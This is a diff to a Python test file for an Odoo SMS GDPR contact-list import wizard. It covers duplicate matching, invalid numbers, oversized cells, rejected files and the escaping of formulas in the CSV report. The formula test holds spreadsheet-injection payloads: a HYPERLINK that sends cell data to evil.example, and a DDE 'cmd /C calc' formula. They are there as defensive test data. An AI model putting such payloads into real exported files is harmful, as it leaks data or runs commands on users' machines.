@@ -11,9 +11,12 @@ from odoo.exceptions import UserError
 from odoo.tests import Form, new_test_user, tagged
 
 from .common import SmsGdprCase
+from .import_common import BINARY_DATA, ImportFileAssertions
 
 # The sample purchased list kept with the core tests: Windows-1252, ";", CRLF, French headers.
 RENTED_LIST_PATH = Path(__file__).resolve().parents[2] / "tests" / "data" / "rented_list_fr.csv"
+# A list whose cells are spreadsheet formulas, kept with the core tests.
+FORMULAS_PATH = RENTED_LIST_PATH.with_name("formulas.csv")
 
 # Line of rented_list_fr.csv -> (decision, reason codes) when the wizard gives every missing value.
 RENTED_LIST_EXPECTED = {
@@ -28,7 +31,7 @@ RENTED_LIST_EXPECTED = {
     10: ("import", ""),
     11: ("warning", "several_numbers"),
     12: ("warning", "not_mobile"),
-    13: ("warning", "no_number"),
+    13: ("warning", "invalid_number"),
     14: ("import", ""),
     15: ("warning", "consent_without_date"),
     16: ("warning", "not_mobile"),
@@ -46,7 +49,7 @@ def csv_bytes(*lines, header=HEADER):
 
 
 @tagged("post_install", "-at_install")
-class TestListImport(SmsGdprCase):
+class TestListImport(SmsGdprCase, ImportFileAssertions):
 
     def _wizard(self, data, filename="list.csv", user=None, **vals):
         return self.env["sms.gdpr.list.import"].with_user(user or self.env.user).create({
@@ -122,6 +125,7 @@ class TestListImport(SmsGdprCase):
         self.assertEqual(landline.sms_gdpr_exclusion_reason, "not_mobile")
         no_number = self._line(wizard, 13).lead_id
         self.assertEqual(no_number.sms_gdpr_exclusion_reason, "no_number")
+        self.assertIn("Invalid numbers in the file, left out: n/a", str(no_number.description))
         self.assertEqual(self._line(wizard, 16).lead_id.sms_gdpr_legal_basis, "legitimate_interest")
         self.assertEqual(self._line(wizard, 15).lead_id.sms_gdpr_exclusion_reason, "consent_missing")
 
@@ -204,13 +208,55 @@ class TestListImport(SmsGdprCase):
         self.assertEqual(wizard.lead_ids.mapped("sms_gdpr_e164"), ["+33612345604"])
 
     def test_same_file_twice_creates_nothing_new(self):
-        self._wizard(self._rented_list(), "rented_list_fr.csv").action_import()
+        first = self._wizard(self._rented_list(), "rented_list_fr.csv")
+        first.action_import()
+        jade = self._line(first, 13).lead_id
         second = self._wizard(self._rented_list(), "rented_list_fr.csv")
         second.action_import()
-        self.assertFalse(second.lead_ids.filtered("sms_gdpr_e164"))
+        self.assertFalse(second.lead_ids)
         self.assertEqual(self._line(second, 2).reason_codes, "existing_lead")
-        # Rows without any number cannot be matched, so they come in again.
-        self.assertEqual(second.lead_ids.mapped("contact_name"), ["Jade Fontaine"])
+        numberless = self._line(second, 13)
+        self.assertEqual((numberless.decision, numberless.reason_codes.split(",")[0]), ("skip", "existing_lead_contact"))
+        self.assertIn(f"as the lead “{jade.display_name}”", numberless.reasons)
+        leads = self.env["crm.lead"].search([("contact_name", "=", "Jade Fontaine")])
+        self.assertEqual(leads, jade)
+
+    def test_numberless_row_matched_by_email(self):
+        existing = self._lead("Jade F.", False, email_from="Jade.Fontaine@Agence-Modele.test", partner_name="Other")
+        wizard = self._wizard(csv_bytes("Agence Modèle;Fontaine;Jade;;France;Salon;12/03/2026;"))
+        wizard.action_import()
+        self.assertEqual(self._line(wizard, 2).decision, "warning", "matched by names in spite of no e-mail match")
+        data = ("Société;Nom;Prénom;E-mail;Pays\r\n"
+                "Agence Modèle;Fontaine;Jade;jade.fontaine@agence-modele.test;France\r\n"
+                "Agence Modèle;Fontaine;Jade;other@agence-modele.test;France\r\n")
+        second = self._wizard(data.encode("cp1252"))
+        second.action_import()
+        by_email, other_email = self._line(second, 2), self._line(second, 3)
+        self.assertEqual(by_email.reason_codes.split(",")[0], "existing_lead_contact")
+        self.assertIn(existing.display_name, by_email.reasons)
+        self.assertEqual(other_email.decision, "warning", "an e-mail of its own must not be matched by names")
+
+    def test_numberless_row_matched_by_names(self):
+        existing = self._lead("Agence", "06 12 34 56 01", contact_name="Jade Fontaine", partner_name="Agence Modèle")
+        existing.action_archive()
+        other_company = self.env["res.company"].create({"name": "Other Agency"})
+        self.env["crm.lead"].create({
+            "name": "Elsewhere", "contact_name": "Paul Durand", "partner_name": "Boulangerie",
+            "company_id": other_company.id,
+        })
+        wizard = self._wizard(csv_bytes(
+            "AGENCE MODELE;FONTAINE;jade;;France;Salon;12/03/2026;",
+            "Boulangerie;Durand;Paul;;France;Salon;12/03/2026;",
+            "Boulangerie;Durand;Paul;;France;Salon;12/03/2026;",
+        ))
+        wizard.action_import()
+        matched, other, repeated = self._line(wizard, 2), self._line(wizard, 3), self._line(wizard, 4)
+        self.assertEqual(matched.reason_codes.split(",")[0], "existing_lead_contact")
+        self.assertIn("“jade FONTAINE, AGENCE MODELE”", matched.reasons)
+        self.assertEqual(other.decision, "warning", "a lead of another company was matched")
+        self.assertEqual(repeated.reason_codes.split(",")[0], "duplicate_contact_in_file")
+        self.assertIn("line 3", repeated.reasons)
+        self.assertEqual(wizard.lead_ids, other.lead_id)
 
     def test_check_creates_nothing(self):
         wizard = self._wizard(self._rented_list(), "rented_list_fr.csv")
@@ -241,8 +287,26 @@ class TestListImport(SmsGdprCase):
         rows = list(csv.reader(io.StringIO(text), delimiter=";"))
         self.assertEqual(rows[0][:2], ["Line", "Name"])
         self.assertEqual(len(rows), 20)
-        self.assertEqual(rows[2][:5], ["3", "Claire Martin", "+33 6 12 34 56 01", "+33612345601", "Skip"])
+        self.assertEqual(rows[2][:5], ["3", "Claire Martin", "'+33 6 12 34 56 01", "'+33612345601", "Skip"])
         self.assertEqual(wizard.report_filename, "rented_list_fr - report.csv")
+
+    def test_report_csv_escapes_formulas(self):
+        wizard = self._wizard(FORMULAS_PATH.read_bytes(), "formulas.csv")
+        wizard.action_import()
+        text = base64.b64decode(wizard.report_file).decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+        self.assertEqual(rows[1][1:4], ["'@SUM(A1) =1+1", "'+33612345678", "'+33612345678"])
+        self.assertEqual(rows[2][1], "P Nom")
+        for row in rows:
+            for cell in row:
+                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"unescaped cell {cell!r}")
+
+        hyperlink, command = self._line(wizard, 2).lead_id, self._line(wizard, 3).lead_id
+        self.assertEqual(hyperlink.name, '=HYPERLINK("http://evil.example/?"&A1,"x")')
+        self.assertEqual(hyperlink.contact_name, "@SUM(A1) =1+1")
+        self.assertEqual(hyperlink.sms_gdpr_data_source_detail, "-2+3")
+        self.assertEqual(command.partner_name, "=cmd|' /C calc'!A0")
+        self.assertEqual(self._line(wizard, 2).name, "@SUM(A1) =1+1", "the report line keeps the value")
 
     def test_form_flow(self):
         wizard_form = Form(self.env["sms.gdpr.list.import"])
@@ -290,6 +354,19 @@ class TestListImport(SmsGdprCase):
         self.assertEqual(second.sms_gdpr_legal_basis, "contract")
         self.assertEqual(self._line(wizard, 2).reason_codes, "region_mismatch")
 
+    def test_text_in_number_cell_invalid(self):
+        wizard = self._wizard(csv_bytes(
+            "E;Martin;Eve;garbage;France;Salon;12/03/2026;",
+            "F;Petit;Léa;;France;Salon;12/03/2026;",
+        ))
+        wizard.action_import()
+        garbage, empty = self._line(wizard, 2), self._line(wizard, 3)
+        self.assertEqual(garbage.reason_codes, "invalid_number")
+        self.assertIn("“garbage” is not a valid phone number", garbage.reasons)
+        self.assertEqual(garbage.raw_number, "garbage")
+        self.assertIn("garbage", str(garbage.lead_id.description))
+        self.assertEqual(empty.reason_codes, "no_number")
+
     def test_unreadable_files_rejected(self):
         with self.assertRaisesRegex(UserError, "Excel 97-2003"):
             self._wizard(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64, "old.xls").action_check()
@@ -297,3 +374,33 @@ class TestListImport(SmsGdprCase):
             self._wizard(b"foo;bar\r\n1;2\r\n", "odd.csv").action_check()
         with self.assertRaisesRegex(UserError, "Choose the file"):
             self.env["sms.gdpr.list.import"].create({}).action_check()
+
+    def test_huge_cell_rejects_row(self):
+        data = ("Société;Nom;Portable\r\n" + "A" * 2_000_000 + ";Martin;0612345601\r\nAcme;Petit;0612345602\r\n")
+        wizard = self._wizard(data.encode("utf-8"), "huge.csv")
+        wizard.action_import()
+        huge, normal = self._line(wizard, 2), self._line(wizard, 3)
+        self.assertEqual((huge.decision, huge.reason_codes), ("reject", "cell_too_long"))
+        self.assertIn("The “Société” cell has 2000000 characters, more than the 1000", huge.reasons)
+        self.assertFalse(huge.lead_id)
+        self.assertFalse(self._leads_of("+33612345601"))
+        self.assertEqual(wizard.lead_ids, normal.lead_id)
+        self.assertEqual(normal.lead_id.partner_name, "Acme")
+        report = base64.b64decode(wizard.report_file).decode("utf-8-sig")
+        self.assertLess(len(report), 2000, "the report carries the huge cell")
+        event = self.env["sms.gdpr.event"].search([("event_type", "=", "import")], order="sequence desc", limit=1)
+        self.assertLess(len(event.details), 2000, "the audit log carries the huge cell")
+
+    def test_empty_and_header_only_files(self):
+        cases = [
+            (b"", "empty.csv", "The file “empty.csv” is empty"),
+            (b"  \r\n", "blank.csv", "The file “blank.csv” is empty"),
+            (HEADER.encode("cp1252"), "header.csv", "The file “header.csv” has a header line but no data rows"),
+            (HEADER.encode("cp1252") + b";;;;;;;\r\n\r\n", "blank_rows.csv", "“blank_rows.csv” has a header line"),
+        ]
+        for data, filename, message in cases:
+            self.assert_file_rejected(self._wizard(data, filename), message)
+
+    def test_binary_file_rejected(self):
+        wizard = self._wizard(BINARY_DATA, "photo.csv")
+        self.assert_file_rejected(wizard, "The file “photo.csv” cannot be read as CSV or XLSX")
